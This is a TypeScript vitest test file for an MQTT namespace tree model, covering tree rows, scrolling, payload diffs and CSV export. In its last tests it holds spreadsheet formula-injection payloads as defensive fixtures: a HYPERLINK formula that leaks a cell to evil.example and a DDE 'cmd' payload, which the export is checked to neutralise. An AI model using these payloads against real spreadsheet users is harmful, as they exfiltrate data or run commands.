import { describe, expect, test } from 'vitest';
import type { WireTreeNode } from '$lib/shared/protocol';
import { appendMessages, diffPayloads, messagesCsv, numericValue, prettyPayload, UnsModel, visibleRange } from './uns-model';

const n = (p: string, c = 0): WireTreeNode => ({ p, c, m: 1, r: 0, t: 0, o: 'mqtt' });

describe('UnsModel', () => {
	test('rows: root children sorted by name, expanded nodes followed by their children, depth first', () => {
		const m = new UnsModel();
		m.applyTree({ type: 'tree', id: 1, path: '', total: 2, nodes: [n('zeta', 1), n('acme', 2)] });
		m.expand('acme');
		m.applyTree({ type: 'tree', id: 2, path: 'acme', total: 3, nodes: [n('acme/l2'), n('acme/l1')] });
		expect(m.rows().map((r) => [r.path, r.depth, r.expanded])).toEqual([
			['acme', 0, true],
			['acme/l1', 1, false],
			['acme/l2', 1, false],
			['zeta', 0, false]
		]);
		expect(m.hidden('acme')).toBe(1);
		// A batch adds a new child in order and updates a known one in place.
		m.applyTree({ type: 'tree', nodes: [n('acme/l15'), { ...n('acme/l1'), m: 9 }] });
		expect(m.rows().map((r) => r.path)).toEqual(['acme', 'acme/l1', 'acme/l15', 'acme/l2', 'zeta']);
		expect(m.rows()[1].node.m).toBe(9);
	});

	test('a fresh snapshot (after resume or reconnect) replaces the children it had, known ones included', () => {
		const m = new UnsModel();
		m.applyTree({ type: 'tree', id: 1, path: '', nodes: [n('a'), n('b')] });
		m.applyTree({ type: 'tree', id: 1, path: '', nodes: [n('b'), n('c')] });
		expect(m.rows().map((r) => r.path)).toEqual(['b', 'c']);
	});

	test('a stale mark comes and goes with the batches: a node sent without it is current again', () => {
		const m = new UnsModel();
		m.applyTree({ type: 'tree', id: 1, path: '', nodes: [{ ...n('a'), v: '1' }] });
		m.applyTree({ type: 'tree', nodes: [{ ...n('a'), v: '1', st: true }] });
		expect(m.rows()[0].node).toMatchObject({ v: '1', st: true });
		m.applyTree({ type: 'tree', nodes: [{ ...n('a'), v: '2' }] });
		expect(m.rows()[0].node.st).toBeUndefined();
	});

	test('collapse hides the subtree and returns every open path under it', () => {
		const m = new UnsModel();
		m.applyTree({ type: 'tree', path: '', nodes: [n('a', 1)] });
		m.expand('a');
		m.applyTree({ type: 'tree', path: 'a', nodes: [n('a/b', 1)] });
		m.expand('a/b');
		m.applyTree({ type: 'tree', path: 'a/b', nodes: [n('a/b/c')] });
		expect(m.rows()).toHaveLength(3);
		expect(m.collapse('a').sort()).toEqual(['a', 'a/b']);
		expect(m.rows().map((r) => r.path)).toEqual(['a']);
	});
});

test.each([
	// scrollTop, viewport, row height, rows, overscan → range
	[0, 480, 48, 100_000, 5, { start: 0, end: 15 }],
	[48_000, 480, 48, 100_000, 5, { start: 995, end: 1015 }],
	[0, 480, 48, 3, 5, { start: 0, end: 3 }]
])('visibleRange(%i, %i, %i, %i, %i) = %j', (top, h, rh, count, over, expected) => {
	expect(visibleRange(top, h, rh, count, over)).toEqual(expected);
});

describe('payload helpers', () => {
	test.each([
		['{"a":1,"b":2}', '{"a":1,"b":3,"c":4}', [{ key: 'b', kind: 'changed', before: '2', after: '3' }, { key: 'c', kind: 'added', after: '4' }]],
		['{"a":1,"b":2}', '{"a":1}', [{ key: 'b', kind: 'removed', before: '2' }]],
		['{"a":{"x":1}}', '{"a":{"x":1}}', []],
		['12', '13', [{ key: 'value', kind: 'changed', before: '12', after: '13' }]]
	])('diff %s → %s', (a, b, expected) => {
		expect(diffPayloads(a, b)).toEqual(expected);
	});

	test.each([
		['12.5', 12.5],
		['{"value":3,"timestamp_ms":1}', 3],
		['true', 1],
		['"text"', null],
		['{"value":"x"}', null],
		['not json', null]
	])('numericValue(%s) = %s', (text, expected) => expect(numericValue(text)).toBe(expected));

	test('pretty JSON, or the text as it is', () => {
		expect(prettyPayload('{"a":1}')).toEqual({ json: true, text: '{\n  "a": 1\n}' });
		expect(prettyPayload('hi')).toEqual({ json: false, text: 'hi' });
	});

	test('messages append by seq, bounded to the newest', () => {
		const msg = (seq: number) => ({ seq, ts: seq, text: String(seq), retained: false });
		const list = appendMessages([msg(1), msg(2)], [msg(2), msg(3), msg(4)], 3);
		expect(list.map((m) => m.seq)).toEqual([2, 3, 4]);
	});

	test('CSV quotes payloads', () => {
		const csv = messagesCsv('a/b', [{ seq: 1, ts: 0, text: '{"x":"y"}', retained: true }]);
		expect(csv).toBe('topic,seq,received_ms,received_iso,retained,payload\r\na/b,1,0,1970-01-01T00:00:00.000Z,1,"{""x"":""y""}"\r\n');
	});

	// Any publisher on the broker chooses the payload: opened in a spreadsheet, a cell that starts like a
	// formula would run (quoting does not stop that). The export neutralises it as every other export does.
	test.each([
		['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
		['+cmd|\' /C calc\'!A0', `'+cmd|' /C calc'!A0`],
		['-2+3', "'-2+3"],
		['@SUM(1+1)', "'@SUM(1+1)"],
		['  =1+1', "'  =1+1"],
		['\t=1+1', "'\t=1+1"]
	])('CSV neutralises a payload that starts like a formula: %s', (payload, cell) => {
		const csv = messagesCsv('a/b', [{ seq: 1, ts: 0, text: payload, retained: false }]);
		expect(csv.split('\r\n')[1]).toBe(`a/b,1,0,1970-01-01T00:00:00.000Z,0,${cell}`);
	});

	test('CSV neutralises a topic that starts like a formula', () => {
		const csv = messagesCsv('=cmd/x', [{ seq: 1, ts: 0, text: '1', retained: false }]);
		expect(csv.split('\r\n')[1]).toBe(`'=cmd/x,1,0,1970-01-01T00:00:00.000Z,0,1`);
	});
});
